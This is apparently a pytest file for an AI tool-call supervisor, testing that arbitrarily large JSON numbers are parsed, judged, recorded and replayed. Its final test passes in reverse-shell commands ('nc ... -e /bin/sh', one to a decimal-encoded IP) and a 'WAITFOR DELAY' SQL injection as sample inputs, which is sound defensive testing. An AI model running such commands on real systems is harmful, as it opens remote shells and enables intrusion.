"""Numbers of JSON have any size. Each gets a decision that is recorded and replayed, whichever way it comes in."""

from __future__ import annotations

import json
import subprocess
import sys
from typing import Any

import anyio
import orjson
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from supervisor.action import Action
from supervisor.adapters.calls import Calls, _key
from supervisor.adapters.function.guard import Guard
from supervisor.adapters.hooks import HOSTS
from supervisor.adapters.mcp.gate import Gate
from supervisor.adapters.mcp.tools import Approved, Tools
from supervisor.engine.remote.client import Remote
from supervisor.engine.session import Session
from supervisor.engine.supervisor import Supervisor
from supervisor.errors import BadInput
from supervisor.intake.documents import read_json
from supervisor.intake.json_values import MAX_DIGITS, exact, plain
from supervisor.intake.parsing import action_from, context_from
from supervisor.policy import policy_from
from supervisor.verdict import Verdict
from tests.adapters.contract import _open

LARGE = {
    "10**400": "1" + "0" * 400,
    "-10**30": "-1" + "0" * 30,
    "2**63": "9223372036854775808",
    "2**64": "18446744073709551616",
    "5,000 digits": "9" * 5000,
    "100,000 digits": "-" + "9" * 100_000,
    "1e400": "1e400",
    "-1E+999999999": "-1E+999999999",
    "5,000 digits and a half": "9" * 5000 + ".5",
}
WITHIN = {"0.1 with 400 digits": "0." + "1" * 400, "1e-400": "1e-400", "1e308": "1e308", "2**63 - 1": str(2**63 - 1)}
EVERY = pytest.mark.parametrize("number", (LARGE | WITHIN).values(), ids=LARGE | WITHIN)

READS_NUMBERS = '''\
"""Objects to a large amount."""

from supervisor.specialist import Action, Context, Opinion, block, ok, specialist


@specialist("payment")
def {id}(action: Action, context: Context) -> Opinion:
    amount = action.number("amount")
    seen = repr((action.args, context.facts, [(step.args, step.output) for step in context.history]))
    return block("It is there.", evidence=(seen[:2000],)) if amount and amount > 100 else ok()
'''
_ENTRY = {
    "caught": [{"tool": "pay", "args": {"amount": 10**number}, "because": "much"} for number in (3, 4, 18)],
    "let_through": [{"tool": "pay", "args": {"amount": number}, "because": "little"} for number in (0, 1, 2)],
    "refused": [{"tool": "bash", "args": {"command": "ls"}, "because": "no payment"}],
}

_digits = st.text("0123456789", max_size=450)
_whole = st.integers() | st.integers(-(10**400), 10**400)
json_numbers = st.one_of(
    _whole.map(str),
    st.builds("{}.{}{}".format, st.integers(), st.integers(0), _digits),
    st.builds("{}e{}".format, st.integers(-99, 99), st.integers(-1000, 1000)),
    st.floats(allow_nan=False, allow_infinity=False).map(repr),
)


def line(number: str, command: str = "touch block", **more: str) -> str:
    """An action that holds a number wherever an action can, as text: what a sender writes is nobody's to reformat."""
    args = f'{{"command": "{command}", "n": {number}, "deep": [{{"a": [{number}]}}]}}'
    step = f'{{"tool": "pay", "args": {{"n": {number}}}, "output": {{"left": [{number}]}}}}'
    rest = "".join(f', "{name}": {value}' for name, value in more.items())
    return f'{{"tool": "bash", "args": {args}, "context": {{"limit": {number}, "history": [{step}]}}{rest}}}'


# Reading


@pytest.mark.parametrize("number", LARGE.values(), ids=LARGE)
def test_a_number_beyond_64_bits_is_read_as_what_stands_there(number):
    assert read_json(f'{{"a": [{number}]}}', limit=1_000_000) == {"a": [number]}


@settings(max_examples=500)
@given(json_numbers)
def test_every_number_is_exact_text_or_what_everyone_reads(number):
    value = read_json(number, limit=10_000)
    if isinstance(value, str):
        assert value == number
        assert abs(float(number)) >= 2**63
    else:
        assert value == json.loads(number)
    assert orjson.loads(orjson.dumps(value)) == value


@pytest.mark.parametrize("text", ["NaN", "Infinity", "-Infinity"])
def test_what_json_has_no_number_for_is_refused(run, tiny, text):
    ran = run("check", "--policy", tiny.policy, stdin=line(text))
    assert (ran.code, ran.out) == (2, "")
    assert ran.err == f"supervisor: {text} is not JSON [not_json]\n"


# Values of Python


@given(_whole)
def test_an_integer_of_python_is_exact(number):
    told = exact({"n": number, number: "key"})
    assert int(told["n"]) == number
    assert isinstance(told["n"], int) == (-(2**63) <= number < 2**63)
    assert told[str(number)] == "key"


def test_more_digits_than_python_prints_are_refused_where_they_stand():
    assert exact({"n": 10**MAX_DIGITS - 1})["n"] == "9" * MAX_DIGITS
    for huge in (10**MAX_DIGITS, -(10**MAX_DIGITS), 1 << 1_000_000):
        for value in ({"a": 1, "n": huge}, {"n": [{"x": huge}]}, {"n": {huge: 1}}):
            with pytest.raises(BadInput, match="more than 4,300 digits") as refused:
                exact(value)
            assert (refused.value.code, refused.value.place) == ("too_large", "args.n")
        assert int(plain({"left": huge})["left"], 16) == huge
    with pytest.raises(BadInput) as refused:
        Session(facts={"limit": 10**MAX_DIGITS})
    assert (refused.value.code, refused.value.place) == ("too_large", "facts.limit")


def test_what_python_prints_at_most_changes_nothing(tiny):
    """PYTHONINTMAXSTRDIGITS may be as low as 640, or 0 for no limit."""
    program = """
from supervisor.adapters.function.guard import Guard
from supervisor.engine.supervisor import Supervisor
from supervisor.errors import BadInput
from supervisor.policy import read_policy
import sys
guard = Guard(Supervisor(read_policy(sys.argv[1])))
with guard.session(facts={"limit": 10**700}):
    decision = guard.check("bash", {"command": "touch block", "n": -(10**4000)})
    assert decision.action.args["n"] == "-1" + "0" * 4000
    guard.observe(decision, {"left": 10**900})
    print(guard.check("bash", {"command": "touch block"}).verdict.label)
for refused in ({"n": 10**5000}, {10**5000: 1}):
    try:
        guard.check("bash", refused)
    except BadInput as error:
        print(error.code)
try:
    guard.check("bash", {}, kind=10**5000)
except BadInput as error:
    print(error.code)
guard.supervisor.close()
"""
    for most in ("640", "0"):
        done = subprocess.run(
            [sys.executable, "-X", f"int_max_str_digits={most}", "-c", program, str(tiny.policy)],
            capture_output=True, text=True, check=False,
        )  # fmt: skip
        assert (done.stdout.split(), done.stderr) == (["block", "too_large", "too_large", "unknown_kind"], "")


@pytest.mark.parametrize("told", ["nan", "NaN", "-nan", "$nan", float("nan")])
def test_what_no_comparison_holds_of_is_no_number(told):
    assert Action("pay", {"amount": told}).number("amount") is None


def test_an_amount_beyond_a_double_is_infinite():
    amounts = ["9" * 400, "-" + "9" * 400, "1e400", 10**400, -(10**400), "-1e400"]
    told = [Action("pay", {"amount": amount}).number("amount") for amount in amounts]
    assert told == [float(sign) for sign in ("inf", "-inf", "inf", "inf", "-inf", "-inf")]


# Decided, recorded, verified and run again


def test_any_numbers_are_decided_recorded_verified_and_replayed(run, tmp_path, tiny):
    tiny.add("money/pays_block", READS_NUMBERS.format(id="pays_block"), cases=_ENTRY)
    settled = {"path": str(tmp_path / "records"), "key": str(tmp_path / "key.pem")}
    tiny.set_policy(records=settled)
    taxonomy = {"shipped": False, "folders": [str(tiny.folder)]}
    supervisor = Supervisor(policy_from({"taxonomy": taxonomy, "records": settled}, place="the test"))

    @settings(max_examples=60)
    @given(*[json_numbers] * 4)
    def decide(amount: str, fact: str, past: str, output: str) -> None:
        step = f'{{"tool": "pay", "args": {{"amount": {past}}}, "output": [{output}]}}'
        told = f'{{"tool": "pay", "kind": "payment", "args": {{"amount": {amount}}}}}'
        action = action_from(read_json(told, limit=10_000))
        context = context_from(read_json(f'{{"limit": {fact}, "history": [{step}]}}', limit=10_000))
        decision = anyio.run(supervisor.decide, action, context)
        assert (decision.verdict is Verdict.BLOCK) == (float(amount) > 100)
        assert decision.record

    decide()
    supervisor.close()
    assert run("verify", tmp_path / "records").code == 0
    replayed = run("replay", tmp_path / "records")
    assert (replayed.code, replayed.err) == (0, "")


# Every way in


@EVERY
def test_check_decides(run, tiny, number):
    ran = run("check", "--policy", tiny.policy, stdin=line(number))
    assert (ran.code, ran.err, json.loads(ran.out)["by"]) == (1, "", ["touches_block"])
    assert run("check", "--policy", tiny.policy, stdin=line(number, "ls")).code == 0


def test_every_line_is_decided_under_its_id(run, tiny, tmp_path):
    numbers = [*LARGE.values(), *WITHIN.values()]
    sent = "\n".join(line(number, id=number, session='"s"', outcome=f'{{"output": {number}}}') for number in numbers)
    ran = run("check", "--jsonl", "--policy", tiny.policy, "--records", tmp_path / "records", stdin=sent)
    told = [json.loads(each) for each in ran.out.splitlines()]
    assert [each["id"] for each in told] == [read_json(number, limit=1_000_000) for number in numbers]
    assert not any("error" in each for each in told)
    assert (ran.err, run("verify", tmp_path / "records").code) == ("", 0)
    assert run("replay", tmp_path / "records").code == 0


@pytest.mark.parametrize("number", [LARGE["10**400"], LARGE["5,000 digits"]], ids=len)
def test_a_refused_line_keeps_its_id(run, tiny, number):
    ran = run("check", "--jsonl", "--policy", tiny.policy, stdin=f'{{"id": {number}, "tool": 7}}')
    assert json.loads(ran.out)["id"] == number


def post(daemon: Any, path: str, body: str) -> tuple[int, Any]:
    raw = body.encode()
    head = f"POST {path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\nContent-Length: {len(raw)}\r\n\r\n"
    head, _, told = daemon.exchange(head.encode() + raw).partition(b"\r\n\r\n")
    return int(head.split(b" ", 2)[1]), told


@EVERY
def test_the_daemon_decides(daemon, number):
    status, told = post(daemon, "/v1/check", line(number, id=number, session='"of a line"'))
    assert (status, json.loads(told)["verdict"]) == (200, "block")
    action = f'{{"tool": "bash", "args": {{"command": "touch block", "n": {number}}}, "kind": "shell", "fields": {{}}}}'
    asked = f'{{"action": {action}, "session": "s", "context": {{"limit": [{number}]}}}}'
    status, told = post(daemon, "/v1/decide", asked)
    assert (status, json.loads(told)["verdict"]) == (200, "block")
    status, told = post(daemon, "/v1/observe", f'{{"action": {action}, "session": "s", "output": [{number}]}}')
    assert (status, json.loads(told)["steps"] > 0) == (200, True)


def test_a_guard_asks_the_daemon_about_any_integer(daemon):
    guard = Guard(Remote(daemon.url))
    with guard.session(facts={"limit": 10**400}):
        decision = guard.check("bash", {"command": "touch block", "n": -(10**30)})
        assert (decision.verdict, decision.unjudged) == (Verdict.BLOCK, None)
        guard.observe(decision, {"left": 10**400})
        assert guard.check("bash", {"command": "ls"}).verdict is Verdict.OK
    guard.supervisor.close()


@EVERY
@pytest.mark.parametrize("host", HOSTS)
def test_every_hosts_hook_is_answered(daemon, host, number):
    for command, status in (("touch block", 403), ("ls", 200)):
        event: dict[str, Any] = HOSTS[host].canary(command)
        event["tool_input"]["n"] = ["NUMBER", {"deep": "NUMBER"}]
        told = json.dumps(event).replace('"NUMBER"', number)
        assert post(daemon, f"/hook/{host}", told)[0] == status
    after = next(name for name, moment in HOSTS[host].events.items() if moment == "after")
    event |= {"hook_event_name": after, "tool_response": {"left": ["NUMBER"]}, "tool_output": '{"left": ["NUMBER"]}'}
    told = json.dumps(event).replace('"NUMBER"', number).replace('\\"NUMBER\\"', number)
    assert post(daemon, f"/hook/{host}", told) == (200, b"")


@EVERY
def test_arguments_that_cursor_tells_as_text_are_judged(daemon, number):
    told = {**HOSTS["cursor"].canary(""), "tool_name": "MCP:box:bash"}
    for command, status in (("touch block", 403), ("ls", 200)):
        told["tool_input"] = f'{{"command": "{command}", "n": {number}}}'
        assert post(daemon, "/hook/cursor", json.dumps(told))[0] == status


@pytest.mark.parametrize("given", ['{"command": "ls", "n": NaN}', '{"command": "a", "command": "b"}', "[1]", "{"])
def test_text_that_two_readers_take_for_different_arguments_is_refused(given):
    told = {**HOSTS["cursor"].canary(""), "tool_input": given}
    with pytest.raises(BadInput) as refused:
        HOSTS["cursor"].read(told)
    assert refused.value.place == "tool_input"


@EVERY
def test_the_gate_before_a_server_decides_and_passes_on_what_was_sent(tmp_path, number):
    guard = _open()
    gate = Gate(Calls(guard), Tools(Approved(["server"], tmp_path)))
    call = (
        '{{"jsonrpc":"2.0","id":{},"method":"tools/call","params":{{"name":"note","arguments":{{"t":"{}","n":{}}}}}}}\n'
    )
    sent = call.format(1, "fine", number).encode()
    assert [raw for raw, _ in gate.from_client(sent).forward] == [sent]
    (refused,) = gate.from_client(call.format(2, "BLOCK", number).encode()).reply
    assert json.loads(refused)["result"]["isError"] is True
    fine = f'{{"jsonrpc":"2.0","id":1,"result":{{"content":[],"structuredContent":{{"left":{number}}}}}}}\n'.encode()
    assert gate.from_server(fine) == fine
    gate.from_client(call.format(3, "fine", number).encode())
    ruined = fine.replace(b'"id":1', b'"id":3').replace(b'"left"', b'"RUINED"')
    assert "It is ruined." in gate.from_server(ruined).decode()
    guard.supervisor.close()


def test_no_number_gets_an_unclear_answer_past_the_gate(tmp_path):
    guard = _open()
    gate = Gate(Calls(guard), Tools(Approved(["server"], tmp_path)))
    twice = b'{"jsonrpc":"2.0","id":1,"result":{"n":%b},"result":{"content":[]}}\n' % (b"9" * 5000)
    assert json.loads(gate.from_server(twice))["error"]["code"] == -32603
    guard.supervisor.close()


def test_a_call_is_known_again_whatever_its_numbers():
    session = Session()
    keys = {_key(session, "call", "pay", {"amount": 10**power}) for power in (2, 30, 30, 400)}
    assert len(keys) == 3
    assert None not in keys


# What specialists make of them


def test_a_record_beside_a_large_number_is_still_read(tmp_path):
    from supervisor.evidence.actions.results import _parsed
    from supervisor.evidence.reading.outputs import returned_values

    for number in LARGE.values():
        text = f'{{"order_id": "A-1", "n": {number[:10_000]}}}'  # of longer outputs neither reads anything
        for read in (returned_values, _parsed):
            assert read(text)["order_id"] == "A-1"
    assert returned_values('{"n": NaN}') is None


def test_figures_and_hosts_of_any_length_are_read():
    from supervisor.evidence.effects.hosts import Place, place_of_host
    from supervisor.evidence.prose.figures import figures_in

    long, short = figures_in(f"{'9' * 400} and 1,000")
    assert (long.values, long.precision) == ((float("inf"),), 0.0)
    assert long.stands_for([float("inf")])
    assert not long.stands_for([1000.0])
    assert not short.stands_for([float("inf")])
    places = {host: place_of_host(host) for host in ("9" * 400, "999.1.1.1", "3232235777", "192.168.1.1", "8.8.8.8")}
    far, near = Place.REMOTE, Place.NEAR
    assert list(places.values()) == [far, far, near, near, far]


def shipped() -> Guard:
    return Guard(Supervisor(policy_from({"records": {"path": None}}, place="the test")))


def test_no_specialist_fails_over_a_large_number():
    """A refund, a payment, a claim, a wait and a host, with more than any field of theirs can hold."""
    guard = shipped()
    facts = {"budget": "9" * 400, "limits": {"refund": 10**400}, "sources": [{"title": "a", "text": "It was 1999."}]}
    proposed: list[tuple[str, dict[str, Any], str | None]] = [
        ("pay", {"amount": 10**400, "payee": "a", "currency": "EUR"}, "payment"),
        ("refund", {"amount": "1e400", "order": "A-1"}, "refund"),
        ("write_report", {"text": f"It was {'9' * 400} then [1].", "citations": ["a"]}, "report"),
        ("sql", {"query": f"WAITFOR DELAY '{'9' * 5000}:00'"}, "sql"),
        ("bash", {"command": f"nc {'9' * 400} 4444 -e /bin/sh; nc 999 4444"}, "shell"),
    ]
    with guard.session(task="Refund 10 EUR", facts=facts):
        for tool, args, kind in proposed:
            decision = guard.check(tool, args, kind=kind)
            said = [opinion.reason for _, opinion in decision.opinions]
            assert not [reason for reason in said if "crashed" in reason], tool
        assert not guard.check("bash", {"command": "nc 3232235777 4444 -e /bin/sh"}).unjudged
    guard.supervisor.close()
